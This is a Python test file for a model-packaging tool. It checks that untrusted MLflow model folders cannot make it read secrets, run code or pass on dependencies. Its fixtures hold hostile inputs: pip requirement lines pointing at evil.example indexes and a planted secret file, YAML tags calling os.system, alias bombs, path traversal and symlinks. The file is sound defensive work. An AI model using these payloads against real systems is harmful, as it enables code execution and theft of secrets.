"""Nothing in an ingredient's model folder is followed, executed or passed on unread."""

import json
import os
import random
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
import yaml
from mlflow import MlflowClient
from mlflow.models import infer_signature
from torch import nn

from stockpot.entities import Candidate, Checkpoint, Run, WeightsFormat, WeightsSource, digest_of_bytes
from stockpot.tracking import MlflowTracker
from stockpot.tracking.mlflow_cards import MOST_BYTES, Interface, fetch, left_out, lost_flavours, merged
from stockpot.tracking.requirements import distribution_of, requirements

SECRET = "stockpot-secret-token"  # noqa: S105 - planted, to be looked for
ROW = [0.25, 0.5, 0.75, 1.0]


@pytest.fixture(scope="module")
def module() -> nn.Module:
    torch.manual_seed(0)
    return nn.Linear(4, 2).eval()


@pytest.fixture(scope="module")
def own(module: nn.Module) -> Interface:
    example = np.zeros((2, 4), np.float32)
    outputs = module(torch.from_numpy(example)).detach().numpy()
    return Interface(example, infer_signature(example, outputs), requirements(()))


@dataclass
class Watched:
    """What this process opened, started or connected to, by Python's own audit events."""

    told: list[str] = field(default_factory=list)
    watching: bool = False

    def __call__(self, event: str, arguments: tuple[object, ...]) -> None:
        if self.watching and event in EVENTS:
            self.told.append(f"{event} {arguments[:1]}")


EVENTS = {"open", "os.system", "subprocess.Popen", "os.exec", "os.posix_spawn", "socket.connect", "exec"}
WATCHED = Watched()
sys.addaudithook(WATCHED)


@pytest.fixture
def watched() -> Iterator[Watched]:
    WATCHED.told.clear()
    WATCHED.watching = True
    yield WATCHED
    WATCHED.watching = False


def honest(folder: Path, own: Interface) -> dict[str, Any]:
    """A card as MLflow writes it, beside its example. Returns the MLmodel document."""
    folder.mkdir(parents=True, exist_ok=True)
    example = json.dumps([ROW, ROW, ROW])
    (folder / "input_example.json").write_text(example)
    (folder / "requirements.txt").write_text("torch==2.13.0\n")
    return {
        "flavors": {"python_function": {"loader_module": "mlflow.pytorch", "data": "data"}},
        "signature": own.signature.to_dict(),
        "saved_input_example_info": {"artifact_path": "input_example.json", "type": "ndarray"},
    }


def written(folder: Path, document: object) -> Path:
    (folder / "MLmodel").write_text(document if isinstance(document, str) else yaml.safe_dump(document))
    return folder


def test_an_honest_card_is_taken_over(tmp_path: Path, module: nn.Module, own: Interface) -> None:
    found = merged(written(tmp_path, honest(tmp_path, own)), module, own)
    assert found.example.tolist() == [ROW, ROW, ROW]
    assert found.requirements == own.requirements


@pytest.mark.parametrize(
    "line", ["torch", "torch>=2,<3", "Torch ~=2.13", "mlflow[extras] != 3.0", "torch==1.0"]
)
def test_what_the_soup_asks_for_in_another_version_is_not_told_as_left_out(
    tmp_path: Path, own: Interface, line: str
) -> None:
    (tmp_path / "requirements.txt").write_text(f"{line}\neinops>=0.8\n")
    assert list(left_out(tmp_path, own)) == ["einops>=0.8"]


@pytest.mark.parametrize(
    ("flavours", "told"),
    [
        ({"python_function": {}, "pytorch": {}}, ""),
        ({"python_function": {}, "onnx": {}}, "onnx"),
        ("no mapping", ""),
    ],
)
def test_a_flavour_that_no_soup_is_written_in_is_named(tmp_path: Path, flavours: object, told: str) -> None:
    found = lost_flavours(written(tmp_path, {"flavors": flavours}))
    assert bool(found) == bool(told)
    assert told in found


def test_a_card_that_is_missing_or_no_yaml_names_no_flavour(tmp_path: Path) -> None:
    assert lost_flavours(tmp_path) == lost_flavours(written(tmp_path, "{")) == ""


LINES = [
    "-r {secret}",
    "-c {secret}",
    "--requirement={secret}",
    "-e /srv/evil",
    "--index-url http://evil.example/simple",
    "--extra-index-url http://evil.example/simple",
    "--find-links /srv",
    "--trusted-host evil.example",
    "evil @ http://evil.example/evil.whl",
    "evil@file:///srv/evil.whl",
    "git+https://evil.example/evil.git#egg=evil",
    "/srv/evil.whl",
    "./evil",
    "evil-package==6.6.6",
    "evil>=1; python_version > '3'",
    "torch==2.13.0 --hash=sha256:00",
    "torch==2.13.0 ; os_name == 'posix'",
    "torch==2.13.0 # -r {secret}",
    "torch==2.13.0 \\",
    "torch @ file://{secret}",
    "torch==2.13.0\x00-r {secret}",
    "TORCH[{secret}]==1",
    "torch== 2.13.0 -r {secret}",
    "${SECRET}",
    "ünïcode==1",
    "x" * 70_000,
]


@pytest.mark.parametrize("line", LINES)
def test_no_line_of_an_ingredients_requirements_is_passed_on(
    tmp_path: Path, module: nn.Module, own: Interface, line: str, watched: Watched
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    folder = tmp_path / "model"
    written(folder, honest(folder, own))
    (folder / "requirements.txt").write_text(line.replace("{secret}", str(secret)) + "\n")
    watched.told.clear()
    found = merged(folder, module, own)
    named = list(left_out(folder, own))
    assert not [told for told in watched.told if "secret.txt" in told]
    assert found.requirements == own.requirements
    assert SECRET not in repr((found, named))
    assert all(distribution_of(each) in {"torch", "mlflow"} for each in found.requirements)
    if distribution_of(line) not in {"torch", "mlflow"}:
        assert named  # what is dropped is named


@pytest.mark.slow
def test_a_soup_that_was_packaged_like_a_hostile_ingredient_asks_for_its_own_needs_alone(
    tmp_path: Path, module: nn.Module, own: Interface, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = tmp_path / "token"
    secret.write_text(SECRET)
    uri = f"sqlite:///{tmp_path}/mlflow.db"
    monkeypatch.setenv("MLFLOW_TRACKING_URI", uri)
    client, tracker = MlflowClient(uri), MlflowTracker(uri)
    experiment = client.create_experiment("sweep", str(tmp_path / "artifacts"))
    run = client.create_run(experiment).info.run_id
    evil = client.create_logged_model(experiment, "evil", run)
    folder = tmp_path / "evil"
    written(folder, honest(folder, own))
    lines = [line.replace("{secret}", str(secret)) for line in LINES[:-1] if "\x00" not in line]
    (folder / "requirements.txt").write_text("\n".join(lines))
    (folder / "conda.yaml").write_text(f"dependencies: [{{pip: ['-r {secret}', 'evil==1']}}]")
    client.log_model_artifacts(evil.model_id, str(folder))
    client.finalize_logged_model(evil.model_id, "READY")
    soup = client.create_logged_model(experiment, "soup", run)
    from safetensors.torch import save_file

    save_file(module.state_dict(), tmp_path / "weights", {"format": "pt"})
    digest = digest_of_bytes(b"")
    like = Candidate(
        Run(run, "evil", experiment, "FINISHED", 0, {}, {}, {}),
        WeightsSource(run, WeightsFormat.PT2, "evil/data/model.pt2", "", evil.model_id, None),
        digest,
        Checkpoint(digest, 0, (), digest),
    )
    packaged = tracker.package(
        module,
        tmp_path / "weights",
        torch.zeros(2, 4),
        tmp_path / "package",
        model_id=soup.model_id,
        like=like,
        architecture=("nowhere:Task", {}),
    )
    assert packaged.kind == "pt2"
    assert "evil-package==6.6.6" in packaged.left_out
    for file in (tmp_path / "package").rglob("*"):
        if file.is_file():
            content = file.read_bytes()
            assert SECRET.encode() not in content, file
            assert b"evil" not in content, file


def test_an_example_is_no_path_and_no_link_to_another_file(
    tmp_path: Path, module: nn.Module, own: Interface
) -> None:
    client = MlflowClient(f"sqlite:///{tmp_path}/mlflow.db")
    stolen = json.dumps([[6.0, 6.0, 6.0, 6.0]])
    (tmp_path / "stolen.json").write_text(stolen)
    for name in ("../stolen.json", str(tmp_path / "stolen.json"), "link.json"):
        folder, into = tmp_path / "store", tmp_path / f"into-{len(name)}"
        into.mkdir()
        document = honest(folder, own)
        document["saved_input_example_info"]["artifact_path"] = name
        (folder / "link.json").unlink(missing_ok=True)
        (folder / "link.json").symlink_to(tmp_path / "stolen.json")
        written(folder, document)
        fetch(client, str(folder), into)
        assert "6.0" not in repr(merged(into, module, own).example)


def test_a_large_example_is_replaced_by_ours(tmp_path: Path, module: nn.Module, own: Interface) -> None:
    client = MlflowClient(f"sqlite:///{tmp_path}/mlflow.db")
    folder, into = tmp_path / "store", tmp_path / "into"
    into.mkdir()
    written(folder, honest(folder, own))
    rows = json.dumps([ROW] * 20_000)
    assert len(rows) > MOST_BYTES["input_example.json"]
    (folder / "input_example.json").write_text(rows)
    fetch(client, str(folder), into)
    assert merged(into, module, own).example is own.example


def test_an_example_that_is_wider_than_the_tasks_own_is_replaced(tmp_path: Path, own: Interface) -> None:
    class Any4(nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x[:, :4] @ torch.ones(4, 2)

    document = honest(tmp_path, own)
    (tmp_path / "input_example.json").write_text(json.dumps([ROW * 500]))
    del document["signature"]
    assert merged(written(tmp_path, document), Any4(), own).example is own.example


Mutation = Callable[[random.Random, dict[str, Any], Path], object]


def _bytes(rng: random.Random, document: dict[str, Any], folder: Path) -> object:
    content = bytearray(yaml.safe_dump(document).encode())
    for _ in range(rng.randint(1, 6)):
        content[rng.randrange(len(content))] = rng.randrange(256)
    (folder / "MLmodel").write_bytes(bytes(content))
    return None


def _tags(rng: random.Random, _document: dict[str, Any], folder: Path) -> object:
    tag = rng.choice(["!!python/object/apply:os.system", "!!python/name:os.system", "!!python/module:evil"])
    return f"signature: {tag} ['touch {folder}/ran']\nsaved_input_example_info: {tag} ['x']\n"


def _aliases(_rng: random.Random, _document: dict[str, Any], _folder: Path) -> object:
    text = "a0: &a0 [x,x,x,x,x,x,x,x,x]\n"
    return text + "".join(f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12))


def _deep(rng: random.Random, _document: dict[str, Any], _folder: Path) -> object:
    return "signature: " + "[" * rng.randint(500, 5000)


def _path(rng: random.Random, document: dict[str, Any], folder: Path) -> object:
    names = ["../../secret.json", str(folder.parent / "secret.json"), "data/../..", "\x00.json", "", 7, None]
    document["saved_input_example_info"]["artifact_path"] = rng.choice(names)
    return document


def _kind(rng: random.Random, document: dict[str, Any], _folder: Path) -> object:
    kinds = ["dataframe", "json_object", "sparse_matrix_csc", "pickle", [], {"ndarray": 1}, 3]
    info = {"type": rng.choice(kinds), "pandas_orient": "split", "serving_input_path": "../secret.json"}
    document["saved_input_example_info"] |= info
    return document


def _example(rng: random.Random, document: dict[str, Any], folder: Path) -> object:
    examples = ["[", "{}", "NaN", "[[1e999, 0, 0, 0]]", '[["a"]]', "[]", "[[[[1]]]]", '{"inputs": [[1]]}']
    examples += ['{"inputs": ' + "[" * 3000, '{"instances": [{"b64": "eA=="}]}', f'{{"inputs": "{SECRET}"}}']
    (folder / "input_example.json").write_text(rng.choice(examples))
    return document


def _signature(rng: random.Random, document: dict[str, Any], _folder: Path) -> object:
    values = ["[", "null", '[{"type": "string", "name": "**better**"}]', 3, None, ["x"], "[" * 3000]
    document["signature"] = {key: rng.choice(values) for key in ("inputs", "outputs", "params")}
    return document


def _requirements(rng: random.Random, document: dict[str, Any], folder: Path) -> object:
    lines = [rng.choice(LINES).replace("{secret}", str(folder.parent / "secret.json")) for _ in range(5)]
    (folder / "requirements.txt").write_text("\n".join(lines), errors="surrogatepass")
    return document


def _flavors(rng: random.Random, document: dict[str, Any], folder: Path) -> object:
    evil = {"loader_module": "evil", "code": "../evil", "python_model": "/srv/evil.pkl", "env": str(folder)}
    document["flavors"] = {rng.choice(["python_function", "pytorch", "evil"]): evil}
    return document


MUTATIONS: list[Mutation] = [
    _bytes, _tags, _aliases, _deep, _path, _kind, _example, _signature, _requirements, _flavors
]  # fmt: skip


@pytest.mark.slow
@pytest.mark.timeout(900)  # three minutes of work, where nobody else works
def test_ten_thousand_mutated_folders_make_nothing_happen(
    tmp_path: Path, module: nn.Module, own: Interface, watched: Watched
) -> None:
    """Counts: files read outside the folder 0, lines passed on 0, code run 0."""
    rng = random.Random(0)  # noqa: S311 - mutations, no secret
    folder = tmp_path / "model"
    (tmp_path / "secret.json").write_text(json.dumps([[6.0] * 4, SECRET]))
    taken, refused = 0, 0
    for _ in range(10_000):
        watched.watching = False
        document: object = honest(folder, own)
        for mutate in rng.sample(MUTATIONS, rng.randint(1, 2)):
            if isinstance(document, dict):
                document = mutate(rng, document, folder)
        if document is not None:
            written(folder, document)
        watched.told.clear()
        watched.watching = True
        try:
            found = merged(folder, module, own)
            taken += 1
        except Exception:  # noqa: BLE001 - any refusal will do: the soup's own interface is used then
            found = own
            refused += 1
        named = list(left_out(folder, own))
        watched.watching = False
        assert found.requirements == own.requirements
        assert SECRET not in repr(found)
        assert "6.0" not in repr(found.example)
        assert [s.name for s in found.signature.inputs.inputs] == [None]
        assert all(isinstance(line, str) for line in named)
        elsewhere = [told for told in watched.told if str(folder) not in told and not _is_pythons(told)]
        assert not elsewhere, elsewhere
        assert not (folder / "ran").exists()
    assert taken > 1000
    assert refused > 1000


def _is_pythons(told: str) -> bool:
    """Opened by an import, or code of a library that an import runs."""
    return told.startswith("exec (<code object") or any(
        f"'{place}" in told
        for place in {sys.prefix, sys.base_prefix, os.path.dirname(os.__file__)}  # noqa: PTH120
    )
